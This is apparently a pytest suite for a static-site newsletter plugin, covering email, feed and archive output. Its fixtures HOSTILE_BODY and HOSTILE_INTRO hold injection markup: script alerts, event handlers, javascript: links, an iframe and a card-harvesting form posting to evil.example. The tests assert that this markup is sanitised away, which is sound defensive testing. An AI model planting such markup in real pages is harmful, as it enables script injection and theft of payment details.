"""Newsletter plugin: issue pages, emails, .eml files, feed, checks and drafting."""

from __future__ import annotations

import email
import logging
import re
from email import policy
from email.utils import parsedate_to_datetime

import feedparser
import pytest
from bs4 import BeautifulSoup
from conftest import FIXTURES, ROOT, article
from lxml import etree

from nextsale.feeds import stable_id
from nextsale.guidance import HEADING
from nextsale.newsletter import check, draft
from nextsale.newsletter.issues import parse_issue_text
from nextsale.newsletter.render import issue_utm
from nextsale.urls import utm_setting, with_utm

SITE = "https://thenextsale.example"
UNSUB_URL = "https://lists.example.net/unsubscribe/next-sale"
UNSUB_MAIL = "unsubscribe@thenextsale.example"
GUIDE = {
    "title": "Repeat business: the complete guide",
    "url": "repeat-business-guide/",
    "cta": "Turn one sale into many:",
}
SETTINGS = {
    "PLUGINS": ["newsletter"],
    "NEWSLETTER_UNSUBSCRIBE_URL": UNSUB_URL,
    "NEWSLETTER_UNSUBSCRIBE_MAILTO": UNSUB_MAIL,
    "NEWSLETTER_DEFAULT_GUIDANCE": GUIDE,
}
GUIDE_PAGE = (
    "Title: Repeat business: the complete guide\nSlug: repeat-business-guide\n\nThe guide.\n"
)


def issue(subject: str | None, date: str = "2025-03-03 07:00", articles: str = "since-previous",
          body: str = "A short note on keeping customers.", **extra: str) -> str:  # fmt: skip
    lines = [f"Subject: {subject}"] if subject is not None else []
    lines += [f"Date: {date}", f"Articles: {articles}"]
    lines += [f"{key.title()}: {value}" for key, value in extra.items()]
    return "\n".join(lines) + "\n\n" + body + "\n"


def parse_eml(site, rel: str) -> email.message.EmailMessage:
    return email.message_from_bytes(site.path(rel).read_bytes(), policy=policy.default)


def build(build_site, files: dict[str, str], **overrides):
    files = {"pages/repeat-business-guide.md": GUIDE_PAGE, **files}
    return build_site(files, **{**SETTINGS, **overrides})


HOSTILE_BODY = """Start with [the guide](/repeat-business-guide/) and
[a relative one](../../about/).

<script>alert("x")</script>
<img src="../../images/chart.png" onerror="alert(1)" alt="Repeat purchases by month">
<a href="javascript:alert(1)">a bad link</a>
<p onclick="steal()">Plain words about repeat business & trust.</p>
"""


@pytest.fixture
def hostile_site(build_site):
    return build(
        build_site,
        {
            "articles/first.md": article(
                "Ties & <tricks> “quoted” 🎉",
                HOSTILE_BODY,
                slug="first",
                date="2025-01-06 08:00",
            ),
            "articles/second.md": article("Second post", slug="second", date="2025-02-03 08:00"),
            "newsletter/001-hello.md": issue(
                "Ünïcode & <b>tags</b> in a subject 🎉",
                body="Read [the first post]({filename}/articles/first.md) first.",
            ),
        },
    )


def test_eml_is_complete_multipart_alternative(hostile_site):
    msg = parse_eml(hostile_site, "newsletter/001-hello/issue.eml")
    assert msg.get_content_type() == "multipart/alternative"
    plain, html = msg.iter_parts()
    assert (plain.get_content_type(), html.get_content_type()) == (
        "text/plain",
        "text/html",
    )
    for part in (plain, html):
        assert part.get_content_charset() == "utf-8"
        assert part["Content-Transfer-Encoding"] == "quoted-printable"
    # RFC 2047 encoding round-trips the subject, number prefix included.
    assert msg["Subject"] == "#1: Ünïcode & <b>tags</b> in a subject 🎉"
    raw_headers = (
        hostile_site.path("newsletter/001-hello/issue.eml").read_bytes().split(b"\r\n\r\n")[0]
    )
    assert raw_headers.isascii()
    assert msg["From"].addresses[0].addr_spec == "letters@thenextsale.example"
    assert parsedate_to_datetime(msg["Date"]).isoformat() == "2025-03-03T07:00:00+00:00"
    assert msg["Message-ID"] == "<newsletter.001.hello@thenextsale.example>"
    assert msg["List-Unsubscribe"] == f"<mailto:{UNSUB_MAIL}>, <{UNSUB_URL}>"
    assert msg["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"

    # The parts carry the same files the archive page links to.
    def normal(text: str) -> str:
        return text.replace("\r\n", "\n").rstrip("\n")

    assert normal(html.get_content()) == normal(
        hostile_site.text("newsletter/001-hello/email.html")
    )
    assert normal(plain.get_content()) == normal(
        hostile_site.text("newsletter/001-hello/email.txt")
    )


def test_email_html_is_safe_absolute_and_small(hostile_site):
    html = hostile_site.text("newsletter/001-hello/email.html")
    soup = hostile_site.soup("newsletter/001-hello/email.html")
    assert soup.find("script") is None
    assert not re.search(r"\son[a-z]+\s*=", html, re.IGNORECASE)
    assert "javascript:" not in html.lower()
    assert not soup.find("link")  # no external fonts or stylesheets
    links = [a["href"] for a in soup.find_all("a", href=True)]
    assert links and all(h.startswith(("https://", "mailto:")) for h in links), links
    assert f"{SITE}/repeat-business-guide/" in links
    assert f"{SITE}/about/" in links  # relative link resolved against the article URL
    assert f"{SITE}/2025/first/" in links  # {filename} link in the intro
    assert soup.find("img")["src"] == f"{SITE}/images/chart.png"
    # CSS is inlined; only the dark-mode and narrow-screen rules stay in <style>.
    assert "prefers-color-scheme: dark" in soup.style.string
    assert "style" in soup.find("div", class_="container").attrs
    preheader = soup.find("div", class_="preheader")
    assert "display: none" in preheader["style"] and "Read the first post first." in preheader.text
    assert soup.find(string=re.compile("Ties & <tricks>"))  # escaped, shown as text
    assert len(html.encode("utf-8")) < 60_000


def test_plain_text_reads_well(hostile_site):
    text = hostile_site.text("newsletter/001-hello/email.txt")
    assert "Ünïcode & <b>tags</b> in a subject 🎉" in text
    assert "<p" not in text and "alert" not in text
    # links become numbered footnotes with absolute addresses
    assert re.search(r"the guide \[(\d+)\]", text)
    number = re.search(r"the guide \[(\d+)\]", text)[1]
    assert f"[{number}] {SITE}/repeat-business-guide/" in text
    assert f"Unsubscribe: {UNSUB_URL}" in text
    assert max(len(line) for line in text.splitlines() if "http" not in line) <= 72


def test_two_builds_are_byte_identical(build_site):
    files = {
        "articles/a.md": article("Post A", slug="a", date="2025-01-06 08:00"),
        "newsletter/001-one.md": issue("One", body="Hello & welcome."),
        "newsletter/002-two.md": issue("Two", date="2025-04-01 07:00"),
    }
    first, second = build(build_site, files), build(build_site, files)
    names = ["newsletter/feed.rss.xml"] + [
        f"newsletter/{n}/{f}"
        for n in ("001-one", "002-two")
        for f in ("email.html", "email.txt", "issue.eml")
    ]
    for name in names:
        assert first.path(name).read_bytes() == second.path(name).read_bytes(), name


def test_drafts_hidden_and_future_articles_never_appear(build_site):
    site = build(
        build_site,
        {
            "articles/live.md": article("Live post", slug="live", date="2025-01-06 08:00"),
            "articles/draft.md": article(
                "Secret draft",
                slug="secret-draft",
                date="2025-01-07 08:00",
                status="draft",
            ),
            "articles/hidden.md": article(
                "Secret hidden",
                slug="secret-hidden",
                date="2025-01-08 08:00",
                status="hidden",
            ),
            "articles/future.md": article(
                "Secret future", slug="secret-future", date="2031-01-06 08:00"
            ),
            "newsletter/001-all.md": issue("Everything so far", date="2025-06-01 07:00"),
            "newsletter/002-later.md": issue("Later", date="2026-01-05 07:00"),
        },
    )
    outputs = [p for p in site.files() if "newsletter" in p.parts]
    assert len(outputs) == 10  # 2 × (page, html, txt, eml) + index + feed
    for path in outputs:
        text = path.read_bytes().decode("utf-8", "replace")
        assert "Secret" not in text and "secret-" not in text, path
    assert "Live post" in site.text("newsletter/001-all/email.txt")
    feed = feedparser.parse(site.path("newsletter/feed.rss.xml").read_bytes())
    assert [e.title for e in feed.entries] == ["#2: Later", "#1: Everything so far"]
    assert "Live post" in feed.entries[1].content[0].value
    assert "Live post" not in feed.entries[0].content[0].value  # already in issue 1


def test_imported_posts_join_an_issue_only_when_listed(build_site):
    # An old blog imported after issue 1 was sent must not change issue 1.
    old = article(
        "From the old blog", slug="old-blog", date="2025-02-01 08:00",
        imported_from="https://old-blog.example/2025/02/from-the-old-blog/",
    )  # fmt: skip
    site = build(
        build_site,
        {
            "articles/live.md": article("Live post", slug="live", date="2025-01-06 08:00"),
            "articles/old.md": old,
            "newsletter/001-all.md": issue("Everything so far", date="2025-06-01 07:00"),
            "newsletter/002-listed.md": issue(
                "From the archive", date="2025-07-01 07:00", articles="{filename}/articles/old.md"
            ),
        },
    )
    first = site.text("newsletter/001-all/email.txt")
    assert "Live post" in first and "From the old blog" not in first
    assert "From the old blog" in site.text("newsletter/002-listed/email.txt")


@pytest.mark.parametrize(
    ("target", "files", "expected"),
    [
        ("draft.md", {"articles/draft.md": article("D", status="draft")}, "is a draft"),
        (
            "hidden.md",
            {"articles/hidden.md": article("H", status="hidden")},
            "is hidden",
        ),
        (
            "future.md",
            {"articles/future.md": article("F", date="2031-01-06 08:00")},
            "in the future",
        ),
        ("missing.md", {}, "does not exist"),
    ],
)
def test_bad_article_references_are_named_errors(build_site, target, files, expected):
    site = build(
        build_site,
        {
            **files,
            "newsletter/003-bad.md": issue("Bad", articles=f"{{filename}}/articles/{target}"),
        },
    )
    errors = site.messages(logging.ERROR)
    assert any("newsletter/003-bad.md" in m and expected in m for m in errors), errors
    assert not site.path("newsletter/003-bad").exists()
    assert not any(r.exc_info for r in site.records)


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("001-x.md", issue(None), "no subject"),
        ("001-x.md", issue("S", date="2025-13-45 99:00"), "cannot read the date"),
        ("001-x.md", "Subject: S\nDate: 2025-03-03\n\nNo list.\n", "no article list"),
        ("issue-one.md", issue("S"), "NNN-slug.md"),
        ("001-x.md", b"Subject: caf\xe9\nDate: 2025-03-03\n\nx\n", "not valid UTF-8"),
    ],
)
def test_bad_issue_files_are_named_errors(build_site, name, text, expected):
    site = build(build_site, {f"newsletter/{name}": text})
    errors = site.messages(logging.ERROR)
    assert any(f"newsletter/{name}" in m and expected in m for m in errors), errors
    assert not any(r.exc_info for r in site.records)


def long_article(n: int, title: str, with_image: bool = True) -> str:
    image = "![A chart of repeat orders](/images/chart.png)\n\n" if with_image else ""
    paragraph = "Repeat customers cost less to serve and tell their friends about you. " * 12
    body = image + "\n\n".join(f"{paragraph} ({i})" for i in range(n))
    return article(title, body, slug=title.lower().replace(" ", "-"), date="2025-01-06 08:00",
                   summary="A short summary worth reading.")  # fmt: skip


def test_oversized_issue_falls_back_to_summaries(build_site):
    site = build(build_site, {
        "articles/big.md": long_article(150, "Big post"),
        "newsletter/001-big.md": issue("Big"),
    })  # fmt: skip
    html = site.path("newsletter/001-big/email.html").read_bytes()
    assert len(html) <= 102_000
    soup = site.soup("newsletter/001-big/email.html")
    read_on = soup.find("a", string="Read on: Big post")
    assert read_on["href"] == f"{SITE}/2025/big-post/"
    assert "A short summary worth reading." in soup.text
    assert soup.find(class_="guidance").find("a", string=GUIDE["title"])
    assert soup.find("a", href=UNSUB_URL)
    assert any("using summaries with read-on links" in m for m in site.messages(logging.INFO))
    assert "Read on: Big post" in site.text("newsletter/001-big/email.txt")


def test_then_images_are_dropped(build_site):
    images = "\n".join(
        f"![Photo {i} of a regular customer at the counter](/images/p{i}.png)" for i in range(900)
    )
    site = build(build_site, {
        "articles/big.md": long_article(150, "Big post"),
        "newsletter/001-big.md": issue("Big", body=images + "\n\nThanks for reading."),
    })  # fmt: skip
    soup = site.soup("newsletter/001-big/email.html")
    assert soup.find("img") is None
    assert "Thanks for reading." in soup.text
    assert soup.find("a", string="Read on: Big post")
    assert soup.find(class_="guidance") and soup.find("a", href=UNSUB_URL)
    assert any("summaries, no images" in m for m in site.messages(logging.INFO))


def test_issue_that_cannot_fit_fails_with_the_overshoot(build_site):
    words = "\n\n".join(
        "An intro far too long for any inbox, repeated on purpose. " * 20 for _ in range(120)
    )
    site = build(
        build_site,
        {"newsletter/001-huge.md": issue("Huge", body=words)},
        NEWSLETTER_MAX_BYTES=50_000,
    )
    errors = site.messages(logging.ERROR)
    match = [
        m for m in errors if "newsletter/001-huge.md" in m and "over the 50000-byte limit" in m
    ]
    assert match, errors
    size = int(re.search(r"email.html is (\d+) bytes", match[0])[1])
    assert f"{size - 50_000} bytes over" in match[0]
    assert not site.path("newsletter/001-huge/email.html").exists()
    assert not site.path("newsletter/001-huge/issue.eml").exists()


def test_size_report_is_logged(hostile_site):
    report = [m for m in hostile_site.messages(logging.INFO) if m.startswith("Newsletter size:")]
    assert len(report) == 1
    assert "001-hello" in report[0] and "of 102.0 KB (full articles)" in report[0]


def test_guidance_comes_from_article_tags_deduplicated(build_site):
    site = build(
        build_site,
        {
            "articles/a.md": article("A", slug="a", tags="referrals", date="2025-01-06 08:00"),
            "articles/b.md": article("B", slug="b", tags="trust", date="2025-01-07 08:00"),
            "articles/c.md": article("C", slug="c", tags="follow-up", date="2025-01-08 08:00"),
            "newsletter/001-tags.md": issue("Tags"),
        },
        PLUGINS=["fake_guidance", "newsletter"],
        PLUGIN_PATHS=[str(ROOT / "plugins"), str(FIXTURES / "newsletter" / "plugins")],
    )
    block = site.soup("newsletter/001-tags/email.html").find(class_="guidance")
    hrefs = [a["href"] for a in block.find_all("a")]
    assert hrefs == [
        f"{SITE}/2020/follow-up-calendar/",
        f"{SITE}/repeat-business-guide/",
    ]
    assert "Guidance for follow-up:" in block.text
    page = site.soup("newsletter/001-tags/index.html").find(class_="guidance")
    assert len(page.find_all("a")) == 2
    # One heading for every place guidance appears: nextsale.guidance.HEADING.
    assert block.h2.text == page.h2.text == HEADING
    assert f"\n{HEADING.upper()}\n" in site.text("newsletter/001-tags/email.txt")


def test_utm_parameters_only_on_site_links(build_site):
    site = build(
        build_site,
        {
            "articles/a.md": article(
                "A",
                "See [elsewhere](https://other.example/x).",
                slug="a",
                date="2025-01-06 08:00",
            ),
            "newsletter/001-utm.md": issue("UTM"),
        },
        NEWSLETTER_UTM={"source": "newsletter", "medium": "email"},
    )
    soup = site.soup("newsletter/001-utm/email.html")
    post_links = [a["href"] for a in soup.find_all("a", href=True) if "/2025/a/" in a["href"]]
    assert post_links and all(
        "utm_source=newsletter" in h and "utm_campaign=001-utm" in h for h in post_links
    )
    assert soup.find("a", href="https://other.example/x")
    assert soup.find("a", href=UNSUB_URL)


def test_old_utm_shape_still_works_with_a_deprecation_warning(build_site):
    old = {"utm_source": "newsletter", "utm_medium": "email"}
    with pytest.warns(DeprecationWarning, match="NEWSLETTER_UTM"):
        utm = utm_setting(old, "NEWSLETTER_UTM", filled=("campaign",))
    assert utm == {"source": "newsletter", "medium": "email"}
    parsed = parse_issue_text(issue("UTM"), "newsletter/001-utm.md", "UTC")
    assert with_utm(f"{SITE}/2025/a/", issue_utm(utm, parsed)) == (
        f"{SITE}/2025/a/?utm_source=newsletter&utm_medium=email&utm_campaign=001-utm"
    )
    # A link's own parameters win over the setting.
    assert with_utm(f"{SITE}/?utm_source=partner", utm) == (
        f"{SITE}/?utm_source=partner&utm_medium=email"
    )

    files = {
        "articles/a.md": article("A", slug="a", date="2025-01-06 08:00"),
        "newsletter/001-utm.md": issue("UTM"),
    }
    new_site = build(build_site, files, NEWSLETTER_UTM={"source": "newsletter", "medium": "email"})
    with pytest.warns(DeprecationWarning, match="NEWSLETTER_UTM"):
        old_site = build(build_site, files, NEWSLETTER_UTM=old)
    for name in ("001-utm/email.html", "001-utm/email.txt", "001-utm/issue.eml", "feed.rss.xml"):
        rel = f"newsletter/{name}"
        assert old_site.path(rel).read_bytes() == new_site.path(rel).read_bytes(), rel
    warned = [m for m in old_site.messages() if "NEWSLETTER_UTM" in m and "deprecated" in m]
    assert warned and "{'source': 'newsletter', 'medium': 'email'}" in warned[0]


HOSTILE_INTRO = """Hello, and welcome back.

<script>alert("intro")</script>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">

<p onclick="steal()">Stay <a href="javascript:alert(1)">safe</a> out there.</p>
"""


def test_intro_markup_never_reaches_the_page_the_email_or_the_feed(build_site):
    site = build(
        build_site,
        {
            "articles/a.md": article("A", slug="a", date="2025-01-06 08:00"),
            "newsletter/001-hostile.md": issue("Hostile", body=HOSTILE_INTRO),
        },
    )
    outputs = [
        "newsletter/001-hostile/index.html",
        "newsletter/001-hostile/email.html",
        "newsletter/001-hostile/email.txt",
        "newsletter/001-hostile/issue.eml",
        "newsletter/feed.rss.xml",
    ]
    for rel in outputs:
        text = site.text(rel)
        assert "Hello, and welcome back." in text, rel
        for banned in ("evil.example", "alert(", "javascript:", "onclick", "refresh"):
            assert banned not in text, (rel, banned)
    page = site.soup("newsletter/001-hostile/index.html")
    assert not page.find_all(["script", "iframe", "form", "input", "button"])
    assert "Stay safe out there." in " ".join(page.find(class_="content").text.split())
    feed = feedparser.parse(site.path("newsletter/feed.rss.xml").read_bytes())
    content = BeautifulSoup(feed.entries[0].content[0].value, "html.parser")
    assert not content.find_all(["script", "iframe", "form", "input", "button", "meta"])


def test_preheader_is_plain_text(build_site):
    preheader = 'Fish & <b>chips</b>, "fresh"'
    site = build(build_site, {"newsletter/001-x.md": issue("X", preheader=preheader)})
    email_html = site.soup("newsletter/001-x/email.html")
    shown = email_html.find("div", class_="preheader")
    assert shown.find("b") is None and shown.text.startswith(preheader)
    page = site.soup("newsletter/001-x/index.html")
    assert page.find("meta", attrs={"name": "description"})["content"] == preheader
    feed = feedparser.parse(site.path("newsletter/feed.rss.xml").read_bytes())
    # A feed's description is HTML: the preheader arrives escaped, read back as text.
    summary = feed.entries[0].summary
    assert "<b>" not in summary and BeautifulSoup(summary, "html.parser").text == preheader


def feed_guids(site) -> list[tuple[str, str]]:
    root = BeautifulSoup(site.path("newsletter/feed.rss.xml").read_bytes(), "xml")
    return [(g.text, g["isPermaLink"]) for g in root.find_all("guid")]


def test_feed_guids_follow_the_site_feeds_policy(build_site):
    first = build(build_site, {"newsletter/001-one.md": issue("One", body="First words.")})
    edited = build(
        build_site,
        {
            "newsletter/001-one.md": issue(
                "One, retitled", body="Rewritten from scratch.", preheader="New preview."
            )
        },
    )
    date = parse_issue_text(issue("One"), "newsletter/001-one.md", "Europe/London").date
    expected = stable_id("newsletter/001-one.md", date, "thenextsale.example")
    assert expected == "tag:thenextsale.example,2025-03-03:/newsletter/001-one"
    assert feed_guids(first) == feed_guids(edited) == [(expected, "false")]
    assert "Rewritten from scratch." in edited.text("newsletter/feed.rss.xml")
    # As in articles, an explicit Id: or Guid: wins.
    own = build(build_site, {"newsletter/001-one.md": issue("One", guid="urn:uuid:1234")})
    assert feed_guids(own) == [("urn:uuid:1234", "false")]


def test_archive_pages_and_feed(build_site):
    site = build(
        build_site,
        {
            "articles/a.md": article("Post A", slug="a", date="2025-01-06 08:00"),
            "newsletter/001-one.md": issue("First issue"),
            "newsletter/002-two.md": issue("Second issue", date="2025-05-05 07:00", status="draft"),
        },
    )
    index = site.soup("newsletter/index.html")
    assert [a.text for a in index.select(".newsletter-issues a")] == ["Issue 1: First issue"]
    page = site.soup("newsletter/001-one/index.html")
    assert page.h1.text == "First issue"
    assert page.find("a", string="view as email")["href"].endswith("newsletter/001-one/email.html")
    assert page.find("a", href=re.compile(r"2025/a/$"))
    assert not site.path("newsletter/002-two").exists()  # drafts stay unpublished
    feed = feedparser.parse(site.path("newsletter/feed.rss.xml").read_bytes())
    assert not feed.bozo
    (entry,) = feed.entries
    assert entry.link == f"{SITE}/newsletter/001-one/"
    assert entry.id == "tag:thenextsale.example,2025-03-03:/newsletter/001-one"
    assert feed.feed.link == f"{SITE}/newsletter/"
    assert feed.feed.updated_parsed == entry.published_parsed  # never the build time
    assert "<script" not in entry.content[0].value


def test_sample_issues(build_site):
    content = ROOT / "content"
    files = {
        p.relative_to(content).as_posix(): p.read_bytes() for p in content.rglob("*") if p.is_file()
    }
    site = build_site(
        files,
        **{**SETTINGS, "NEWSLETTER_DEFAULT_GUIDANCE": None, "PLUGINS": ["newsletter"]},
    )
    issues = sorted(p.name for p in site.path("newsletter").iterdir() if p.is_dir())
    assert len(issues) == 2
    first = parse_eml(site, f"newsletter/{issues[0]}/issue.eml")
    html = BeautifulSoup(first.get_body(("html",)).get_content(), "html.parser")
    assert len(html.select(".article h2 a")) == 3
    second = site.text(f"newsletter/{issues[1]}/email.txt")
    assert "Winning back the customer who drifted away" in second
    assert "price rise" not in second.lower()  # a draft in the date range
    assert not [m for m in site.messages(logging.ERROR) if "Newsletter" in m]


def test_presend_check_findings(build_site, capsys):
    body = (
        "[Click here](https://thenextsale.example/2025/a/) for more.\n\n"
        "![](https://thenextsale.example/images/none.png)\n\n"
        "Also see [the lost page](https://thenextsale.example/no-such-page/)."
    )
    site = build(
        build_site,
        {
            "articles/a.md": article("A", slug="a", date="2025-01-06 08:00"),
            "newsletter/001-clean.md": issue("A clean issue", articles="{filename}/articles/a.md"),
            "newsletter/002-messy.md": issue(
                "A subject line that goes on and on well past what a phone shows",
                                             date="2025-04-01 07:00", body=body),
        },
    )  # fmt: skip
    assert check.main([str(site.output), "--site-url", SITE, "--issue", "001"]) == 0
    capsys.readouterr()
    (site.path("newsletter/001-clean/email.txt")).unlink()
    assert check.main([str(site.output), "--site-url", SITE]) == 1
    out = capsys.readouterr().out
    assert "001-clean: missing plain-text part (email.txt)" in out
    assert "002-messy/issue.eml: subject is 67 characters, over 60" in out
    assert "002-messy/email.html: vague link text 'Click here'" in out
    assert "image with empty alt text: https://thenextsale.example/images/none.png" in out
    assert "link to https://thenextsale.example/no-such-page/ does not resolve" in out
    assert "2025/a/ does not resolve" not in out


def test_draft_writes_next_issue_and_never_overwrites(tmp_path, capsys):
    content = tmp_path / "content"
    (content / "articles").mkdir(parents=True)
    (content / "newsletter").mkdir()
    (content / "newsletter" / "001-first.md").write_text(issue("First", date="2025-01-10 07:00"))
    for slug, date, extra in [
        ("old", "2025-01-01 08:00", {}),
        ("new", "2025-02-01 08:00", {}),
        ("newer", "2025-03-01 08:00", {}),
        ("unfinished", "2025-02-15 08:00", {"status": "draft"}),
        ("later", "2025-09-01 08:00", {}),
    ]:
        (content / "articles" / f"{slug}.md").write_text(
            article(slug.title(), slug=slug, date=date, **extra)
        )
    conf = tmp_path / "conf.py"
    conf.write_text(
        f"PATH = {str(content)!r}\nARTICLE_PATHS = ['articles']\nTIMEZONE = 'Europe/London'\n"
        "SLUG_REGEX_SUBSTITUTIONS = [(r'[^\\w\\s-]', ''), (r'(?u)\\A\\s*', ''),"
        " (r'(?u)\\s*\\Z', ''), (r'[-\\s]+', '-')]\n"
    )
    args = [
        "--settings",
        str(conf),
        "--date",
        "2025-03-02 07:00",
        "--subject",
        "Three new posts",
    ]
    assert draft.main(args) == 0
    target = content / "newsletter" / "002-three-new-posts.md"
    text = target.read_text()
    assert "Status: draft" in text and "Date: 2025-03-02 07:00" in text
    assert "{filename}/articles/newer.md,\n    {filename}/articles/new.md\n" in text
    assert "old.md" not in text and "unfinished" not in text and "later" not in text

    target.write_text(text + "My edits.\n")
    assert draft.main(args) == 1
    assert target.read_text().endswith("My edits.\n")
    assert "still a draft" in capsys.readouterr().err


def test_nothing_is_written_when_the_plugin_is_off(build_site):
    files = {"newsletter/001-one.md": issue("One")}
    assert build(build_site, files).path("newsletter/001-one/issue.eml").is_file()
    # The signal handler stays connected in this process; the plugin must still stay off.
    off = build(build_site, files, PLUGINS=[])
    assert not off.path("newsletter").exists()


def test_issue_front_matter_is_read_as_articles_are():
    from nextsale.newsletter.issues import split_header

    header, body, warnings = split_header(
        "Subject: Wrapped\nArticles: {filename}/articles/a.md,\n    {filename}/articles/b.md\n"
        "\nThe intro.\n"
    )
    assert header["articles"][1] == "{filename}/articles/a.md, {filename}/articles/b.md"
    assert body == "The intro.\n" and warnings == []
    header, body, warnings = split_header("Subject: Short indent\nArticles: a.md,\n  b.md\n")
    assert header["articles"] == (2, "a.md,")
    assert warnings == [
        "line 3: indent a continued value by four spaces; as written this line starts the intro"
    ]


def tiny_png() -> bytes:
    """A real 1x1 PNG, for an issue's lead image."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x0b\x5d\x4b")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def test_newsletter_feed_is_what_rss_to_email_services_read(build_site):
    png = tiny_png()
    site = build(
        build_site,
        {
            "articles/a.md": article("Post A", slug="a", date="2025-01-06 08:00"),
            "images/lead.png": png,
            "newsletter/001-one.md": issue(
                "Pictures of loyalty", body="![Regulars at the counter](/images/lead.png)\n\nWords."
            ),
            "newsletter/002-two.md": issue("Words only", date="2025-04-07 07:00"),
        },
        AUTHOR="Mara Ellison",
        NEWSLETTER_FROM="The Next Sale <letters@thenextsale.example>",
        NEWSLETTER_DESCRIPTION="Short letters on earning the next order.",
    )
    data = site.path("newsletter/feed.rss.xml").read_bytes()
    assert b"<?xml-stylesheet" not in data
    feed = feedparser.parse(data)
    assert not feed.bozo
    # The channel is the archive page, with the newsletter's own name and description.
    assert feed.feed.link == f"{SITE}/newsletter/"
    assert feed.feed.title == "The Next Sale newsletter"
    assert feed.feed.subtitle == "Short letters on earning the next order."
    two, one = feed.entries
    for entry in (one, two):
        assert entry.author == "Mara Ellison"
        # The issue's title heads the content a service pastes into its template.
        content = BeautifulSoup(entry.content[0].value, "html.parser")
        assert content.find("h2").get_text(strip=True) == entry.title.split(": ", 1)[1]
    # The lead image, where mail services look for it.
    image = f"{SITE}/images/lead.png"
    assert [(e.href, e.type, e.length) for e in one.enclosures] == [
        (image, "image/png", str(len(png)))
    ]
    assert one.media_content == [
        {"url": image, "type": "image/png", "medium": "image", "filesize": str(len(png))}
    ]
    assert not two.enclosures and "media_content" not in two
    root = etree.fromstring(data)
    assert [a.text for a in root.findall("channel/item/author")] == [
        "letters@thenextsale.example (Mara Ellison)"
    ] * 2
    media = "{http://search.yahoo.com/mrss/}content"
    assert len(root.findall(f"channel/item/{media}")) == 1


def test_the_email_wears_the_sites_accent(hostile_site):
    css = (ROOT / "theme" / "static" / "css" / "style.css").read_text(encoding="utf-8")
    light = re.search(r"--accent:\s*(#[0-9a-f]{6})", css).group(1)
    dark = re.findall(r"--accent:\s*(#[0-9a-f]{6})", css)[1]
    html = hostile_site.text(
        next(
            p.relative_to(hostile_site.output).as_posix()
            for p in hostile_site.output.rglob("email.html")
        )
    )
    soup = BeautifulSoup(html, "html.parser")
    link = soup.select_one(".masthead .site a")
    assert f"color: {light}" in link["style"]
    assert dark in soup.find("style").get_text()  # the dark-mode rules keep the site's too


def test_an_issues_lead_image_is_found_once_per_content(monkeypatch):
    """The newsletter feed is written at every build of a live session: an issue's
    content is parsed for its first image once, while it stays the same."""
    from nextsale.newsletter import render

    parsed = []
    real = render.BeautifulSoup

    def counting(markup, *args, **kwargs):
        parsed.append(markup)
        return real(markup, *args, **kwargs)

    monkeypatch.setattr(render, "BeautifulSoup", counting)
    render.first_image_source.cache_clear()
    html = '<p>Hi</p><img src="https://example.org/a.png" alt="A"><img src="/b.png" alt="">'
    for _ in range(3):
        found = render.lead_image(html, size_of=lambda url: 42)
        assert (found.url, found.type, found.length) == (
            "https://example.org/a.png",
            "image/png",
            42,
        )
    assert render.lead_image('<img src="/images/b.png" alt="">') is None  # not absolute
    assert render.lead_image("<p>No picture</p>") is None
    assert len(parsed) == 3  # each content once
